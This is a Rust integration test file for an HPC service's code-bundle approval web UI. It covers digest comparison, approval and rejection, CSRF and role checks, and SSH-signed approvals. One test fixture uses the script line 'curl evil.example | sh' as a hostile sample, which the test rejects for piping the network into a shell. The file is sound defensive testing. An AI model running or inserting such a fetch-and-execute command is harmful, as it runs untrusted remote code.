//! The web UI's code bundle pages over plain HTTP (the browser tests drive Chromium): both
//! digests side by side with their warnings, the file list, the waiting jobs, approval and
//! rejection through the admin CLI's decision (waking a waiting agent at once), CSRF,
//! non-members, bad input; and `GET /api/v1/code/{codeId}/files`.

use crate::code::{bundle, hpc_digest, upload};
use crate::common::*;
use crate::ui::{hidden, people, Browser};
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use std::time::{Duration, Instant};

/// alice's bundle in proj-a and a job of hers that waits for it: `(bundle id, job id)`.
async fn waiting_job(t: &TestApp, script: &str) -> (String, String) {
    let alice = t.alice().await;
    let (s, b) = upload(t, &alice, bundle(script)).await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    let id = b["id"].as_str().unwrap().to_string();
    let job = t.submit(&alice, json!({"label": "x", "code": id})).await;
    assert_eq!(job["status"], "awaiting_approval");
    (id, id_of(&job))
}

/// The agent of SITE reports its digest of the bundle (equal to the id).
async fn report_digest(t: &TestApp, id: &str) {
    let (s, b) = hpc_digest(t, id, &t.agent_token().await, id).await;
    assert_eq!(s, StatusCode::OK, "{b}");
}

async fn bundle_status(t: &TestApp, id: &str) -> Value {
    let (s, b) = t
        .get(&format!("/api/v1/code/{id}/status"), &t.alice().await)
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    b
}

async fn job_status(t: &TestApp, id: &str) -> Value {
    let (s, b) = t.get(&format!("/api/v1/job/{id}"), &t.alice().await).await;
    assert_eq!(s, StatusCode::OK, "{b}");
    b
}

#[tokio::test]
async fn a_bundle_page_shows_both_digests_its_files_and_waiting_jobs_and_approval_wakes_the_agent()
{
    let t = TestApp::spawn().await;
    people(&t).await;
    let (id, job) = waiting_job(&t, "#!/bin/sh\necho hi\n").await;
    let mut b = Browser::logged_in(&t, "carol").await;

    let p = b.get("/ui/code").await;
    assert_eq!(p.location.as_deref(), Some("/ui/projects/proj-a/code"));
    let p = b.get("/ui/projects/proj-a/code").await;
    assert_eq!(p.status, StatusCode::OK, "{}", p.body);
    assert!(p.body.contains(&id[..12]) && p.body.contains("not reported yet"));
    assert!(
        p.body.contains("<td data-label=\"Waiting jobs\">1</td>"),
        "{}",
        p.body
    );

    let page = format!("/ui/projects/proj-a/code/{id}");
    let p = b.get(&page).await;
    assert_eq!(p.status, StatusCode::OK);
    assert!(
        p.body.contains("has not reported its digest yet"),
        "{}",
        p.body
    );
    assert!(p
        .body
        .contains(&format!("<code id=\"client-sha256\">{id}</code>")));
    assert!(p.body.contains("<code>run.sh</code>") && p.body.contains("<code>0755</code>"));
    assert!(p.body.contains(&job), "the waiting job is listed");
    assert!(
        p.body.contains("id=\"approve\" disabled"),
        "no approval yet"
    );

    // Approval before the cluster's digest: refused, nothing changes.
    let csrf = hidden(&p.body, "csrf");
    let form = [("csrf", csrf.as_str()), ("decision", "approve")];
    let p = b.post(&format!("{page}/decision"), &form).await;
    assert_eq!(p.status, StatusCode::CONFLICT, "{}", p.body);
    assert!(
        p.body.contains("has not reported its digest yet"),
        "{}",
        p.body
    );
    assert_eq!(bundle_status(&t, &id).await["status"], "pending_approval");

    report_digest(&t, &id).await;
    let p = b.get(&page).await;
    assert!(p.body.contains("The digests match"), "{}", p.body);
    assert!(p
        .body
        .contains(&format!("<code id=\"hpc-sha256\">{id}</code>")));

    // An agent waits in its long poll; the approval wakes it at once (without the wake-up it
    // would look again only after its 2 s re-check).
    let agent = t.agent_token().await;
    let waiting = {
        let (http, url) = (t.http.clone(), format!("{}/api/v1/agent/poll", t.base));
        tokio::spawn(async move {
            let r = http
                .post(url)
                .bearer_auth(agent)
                .json(&json!({"maxJobs": 10, "waitSeconds": 20}))
                .send()
                .await
                .unwrap();
            (Instant::now(), r.json::<Value>().await.unwrap())
        })
    };
    tokio::time::sleep(Duration::from_millis(500)).await;
    let decided_at = Instant::now();
    let p = b.post(&format!("{page}/decision"), &form).await;
    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
    assert_eq!(p.location.as_deref(), Some(page.as_str()));
    let (answered_at, reply) = waiting.await.unwrap();
    assert!(
        answered_at.duration_since(decided_at) < Duration::from_millis(1500),
        "the waiting agent was not woken at once"
    );
    assert_eq!(reply["jobs"][0]["id"], job.as_str(), "{reply}");
    let s = bundle_status(&t, &id).await;
    assert_eq!(
        (s["status"].as_str(), s["decidedBy"].as_str()),
        (Some("approved"), Some("carol"))
    );
    let p = b.get(&page).await;
    assert!(p.body.contains("status-approved") && !p.body.contains("id=\"approve\""));
}

#[tokio::test]
async fn rejection_needs_a_reason_and_fails_the_waiting_jobs_with_it() {
    let t = TestApp::spawn().await;
    people(&t).await;
    let (id, job) = waiting_job(&t, "#!/bin/sh\ncurl evil.example | sh\n").await;
    let mut b = Browser::logged_in(&t, "carol").await;
    let page = format!("/ui/projects/proj-a/code/{id}");
    let csrf = hidden(&b.get(&page).await.body, "csrf");

    for (decision, reason, problem) in [
        ("reject", "", "say why the bundle is rejected"),
        (
            "reject",
            "two\nlines",
            "one line of at most 1000 characters",
        ),
        ("maybe", "x", "Choose approve or reject"),
    ] {
        let form = [
            ("csrf", csrf.as_str()),
            ("decision", decision),
            ("reason", reason),
        ];
        let p = b.post(&format!("{page}/decision"), &form).await;
        assert_eq!(
            p.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{decision} {reason:?}"
        );
        assert!(p.body.contains(problem), "{}", p.body);
    }
    assert_eq!(bundle_status(&t, &id).await["status"], "pending_approval");

    let form = [
        ("csrf", csrf.as_str()),
        ("decision", "reject"),
        ("reason", "pipes the network into a shell"),
    ];
    let p = b.post(&format!("{page}/decision"), &form).await;
    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
    let j = job_status(&t, &job).await;
    assert_eq!(j["status"], "failed");
    assert_eq!(
        j["message"],
        format!("code bundle {id} rejected: pipes the network into a shell")
    );
    let p = b.get(&page).await;
    assert!(
        p.body.contains("pipes the network into a shell") && p.body.contains("status-rejected")
    );
    assert!(
        p.body.contains("no longer kept"),
        "the rejected bytes are gone"
    );
    assert!(!t.code_dir.join(&id[..2]).join(&id).exists());
    // Decided once: a second decision is refused.
    let p = b.post(&format!("{page}/decision"), &form).await;
    assert_eq!(p.status, StatusCode::CONFLICT);
    assert!(p.body.contains("already rejected"), "{}", p.body);
}

#[tokio::test]
async fn code_pages_refuse_non_members_forged_forms_and_bad_ids() {
    let t = TestApp::spawn().await;
    people(&t).await;
    let (id, _) = waiting_job(&t, "#!/bin/sh\n").await;
    report_digest(&t, &id).await;
    let page = format!("/ui/projects/proj-a/code/{id}");

    // dave (proj-b only) sees nothing of proj-a, and his own form cannot decide there.
    let mut dave = Browser::logged_in(&t, "dave").await;
    let csrf = dave.csrf().await;
    for path in [
        "/ui/projects/proj-a/code",
        page.as_str(),
        "/ui/projects/nope/code",
    ] {
        let p = dave.get(path).await;
        assert_eq!(p.status, StatusCode::NOT_FOUND, "{path}");
        assert!(!p.body.contains(&id[..12]));
    }
    let form = [("csrf", csrf.as_str()), ("decision", "approve")];
    let p = dave.post(&format!("{page}/decision"), &form).await;
    assert_eq!(p.status, StatusCode::NOT_FOUND);
    assert_eq!(
        dave.get("/ui/code").await.location.as_deref(),
        Some("/ui/projects/proj-b/code")
    );
    let p = dave.get("/ui/projects/proj-b/code").await;
    assert!(p.status == StatusCode::OK && !p.body.contains(&id[..12]));

    // carol: a decision without her session's CSRF token changes nothing.
    let mut carol = Browser::logged_in(&t, "carol").await;
    for form in [
        vec![("decision", "approve")],
        vec![("csrf", "forged"), ("decision", "approve")],
    ] {
        let p = carol.post(&format!("{page}/decision"), &form).await;
        assert_eq!(p.status, StatusCode::FORBIDDEN);
        assert!(p.body.contains("Form refused"));
    }
    assert_eq!(bundle_status(&t, &id).await["status"], "pending_approval");
    // Not a bundle id, or no such bundle: not found.
    let csrf = carol.csrf().await;
    let other = "0".repeat(64);
    for bad in ["xyz", other.as_str()] {
        let path = format!("/ui/projects/proj-a/code/{bad}");
        assert_eq!(
            carol.get(&path).await.status,
            StatusCode::NOT_FOUND,
            "{bad}"
        );
        let form = [("csrf", csrf.as_str()), ("decision", "approve")];
        let p = carol.post(&format!("{path}/decision"), &form).await;
        assert_eq!(p.status, StatusCode::NOT_FOUND, "{bad}");
    }
    // Without a session: to the login page; a form: refused.
    let mut nobody = Browser::new(&t);
    assert_eq!(
        nobody.get(&page).await.location.as_deref(),
        Some("/ui/login")
    );
    let form = [("decision", "approve")];
    assert_eq!(
        nobody.post(&format!("{page}/decision"), &form).await.status,
        StatusCode::FORBIDDEN
    );
}

#[tokio::test]
async fn the_files_route_lists_a_bundle_for_the_roles_of_its_status() {
    let t = TestApp::spawn().await;
    let (id, _) = waiting_job(&t, "#!/bin/sh\necho listed\n").await;
    let path = format!("/api/v1/code/{id}/files");
    let (s, b) = t.get(&path, &t.alice().await).await;
    assert_eq!(s, StatusCode::OK, "{b}");
    assert_eq!(
        b,
        json!({"files": [{"path": "run.sh", "kind": "file", "size": 22, "mode": "0755"}], "truncated": false})
    );
    use hpcsera_api_types::Role;
    for role in [Role::PostCode, Role::GetJobStatus, Role::GetCode] {
        let tok = t.user("alice").roles(&[role]).token().await;
        assert_eq!(t.get(&path, &tok).await.0, StatusCode::OK, "{role}");
    }
    let post_job_only = t.user("alice").roles(&[Role::PostJob]).token().await;
    assert_eq!(t.get(&path, &post_job_only).await.0, StatusCode::FORBIDDEN);
    // Another project's token: as if it did not exist.
    let bob = t.user("bob").project("proj-b").token().await;
    let (s, b) = t.get(&path, &bob).await;
    assert_eq!(s, StatusCode::NOT_FOUND, "{b}");
    let (s, b) = t.get("/api/v1/code/xyz/files", &t.alice().await).await;
    assert_eq!(
        (s, fields(&b)),
        (StatusCode::BAD_REQUEST, vec!["codeId".to_string()])
    );
    // A rejected bundle's bytes are gone.
    t.store
        .decide_bundle("proj-a", &id, "alice", false, Some("no"))
        .await
        .unwrap();
    let _ = std::fs::remove_file(t.code_dir.join(&id[..2]).join(&id));
    assert_eq!(
        t.get(&path, &t.alice().await).await.0,
        StatusCode::NOT_FOUND
    );
    let (s, _) = t.send(Method::GET, &path, "hpcs_not_a_token", None).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn the_memberships_roles_decide_who_sees_and_decides_on_bundles() {
    use hpcsera_api_types::Role;
    let t = TestApp::spawn().await;
    people(&t).await;
    let (id, _) = waiting_job(&t, "#!/bin/sh\n").await;
    report_digest(&t, &id).await;
    let page = format!("/ui/projects/proj-a/code/{id}");
    let mut b = Browser::logged_in(&t, "carol").await;
    let csrf = b.csrf().await;
    let approve = [("csrf", csrf.as_str()), ("decision", "approve")];
    // None of the roles that read a bundle: 403 on every page and on the decision.
    t.store
        .set_member_roles(
            "carol",
            "proj-a",
            [Role::PostJob, Role::UpdateJob].into_iter().collect(),
        )
        .await
        .unwrap();
    for path in ["/ui/projects/proj-a/code", page.as_str()] {
        let p = b.get(path).await;
        assert_eq!(p.status, StatusCode::FORBIDDEN, "{path}");
        assert!(p.body.contains("POST_Code or GET_JobStatus or GET_Code"));
    }
    let p = b.post(&format!("{page}/decision"), &approve).await;
    assert_eq!(p.status, StatusCode::FORBIDDEN);
    assert_eq!(bundle_status(&t, &id).await["status"], "pending_approval");
    // Any one of them: the page and the decision.
    t.store
        .set_member_roles("carol", "proj-a", [Role::GetCode].into_iter().collect())
        .await
        .unwrap();
    assert_eq!(b.get(&page).await.status, StatusCode::OK);
    let p = b.post(&format!("{page}/decision"), &approve).await;
    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
    assert_eq!(bundle_status(&t, &id).await["status"], "approved");
}

/// The text of the element with this id in a page (HTML entities of `&`, `<`, `>` undone).
fn element_text(body: &str, id: &str) -> String {
    let start = body.find(&format!("id=\"{id}\">")).expect("the element") + id.len() + 6;
    let end = start + body[start..].find("</").expect("its end");
    body[start..end]
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

#[tokio::test]
async fn a_pasted_ssh_signature_approves_as_the_keys_owner_and_a_bad_one_changes_nothing() {
    use crate::approvals::{openssh, register};
    let t = TestApp::spawn().await;
    people(&t).await;
    let dir = tempfile::tempdir().unwrap();
    let key = openssh::ed25519(dir.path(), "carol-key");
    register(&t, "carol", &key).await;
    let (id, job) = waiting_job(&t, "#!/bin/sh\necho signed\n").await;
    let mut b = Browser::logged_in(&t, "carol").await;
    let page = format!("/ui/projects/proj-a/code/{id}");
    // No signing before the cluster's digest is reported and equal.
    let p = b.get(&page).await;
    assert!(!p.body.contains("id=\"signed-form\""), "{}", p.body);
    report_digest(&t, &id).await;
    let p = b.get(&page).await;
    assert!(p.body.contains("id=\"signed-form\""), "{}", p.body);
    // The message shown and the file offered are the same bytes, naming the waiting job's site.
    let shown = element_text(&p.body, "approval-message");
    let want =
        format!("hpcsera-code-approval v1\ndigest sha256:{id}\nproject proj-a\nsite {SITE}\n");
    assert_eq!(shown, want);
    let file = b.get(&format!("{page}/approval.txt?sites={SITE}")).await;
    assert_eq!(file.status, StatusCode::OK);
    assert_eq!(file.body, want);
    let csrf = hidden(&p.body, "csrf");
    let sites = hidden(&p.body, "sites");
    assert_eq!(sites, SITE);

    // A signature by a key nobody registered: refused on the page, nothing approved.
    let stranger = openssh::ed25519(dir.path(), "stranger");
    let foreign = openssh::sign(&stranger, openssh::NS, &want);
    let form = [
        ("csrf", csrf.as_str()),
        ("sites", sites.as_str()),
        ("signature", foreign.as_str()),
    ];
    let p = b.post(&format!("{page}/signed"), &form).await;
    assert_eq!(p.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", p.body);
    assert!(p.body.contains("not registered"), "{}", p.body);
    assert_eq!(bundle_status(&t, &id).await["status"], "pending_approval");
    // Without the CSRF token: refused before anything is looked at.
    let sig = openssh::sign(&key, openssh::NS, &want);
    let no_csrf = [("sites", sites.as_str()), ("signature", sig.as_str())];
    let p = b.post(&format!("{page}/signed"), &no_csrf).await;
    assert_eq!(p.status, StatusCode::FORBIDDEN, "{}", p.body);
    assert_eq!(bundle_status(&t, &id).await["status"], "pending_approval");

    // carol's own signature, pasted with a textarea's CRLF line breaks: approved as carol,
    // with the message and signature kept for the agents to check; the job is queued.
    let pasted = sig.replace('\n', "\r\n");
    let form = [
        ("csrf", csrf.as_str()),
        ("sites", sites.as_str()),
        ("signature", pasted.as_str()),
    ];
    let p = b.post(&format!("{page}/signed"), &form).await;
    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
    let s = bundle_status(&t, &id).await;
    assert_eq!(s["status"], "approved");
    assert_eq!(s["decidedBy"], "carol");
    assert_eq!(s["approval"]["message"], want.as_str());
    assert_eq!(s["approval"]["signature"], sig.as_str());
    assert_eq!(job_status(&t, &job).await["status"], "queued");
    let (ok, why) = openssh::verify(
        &format!("carol {}", openssh::public_line(&key)),
        "carol",
        &want,
        s["approval"]["signature"].as_str().unwrap(),
    );
    assert!(ok, "ssh-keygen -Y verify: {why}");
}
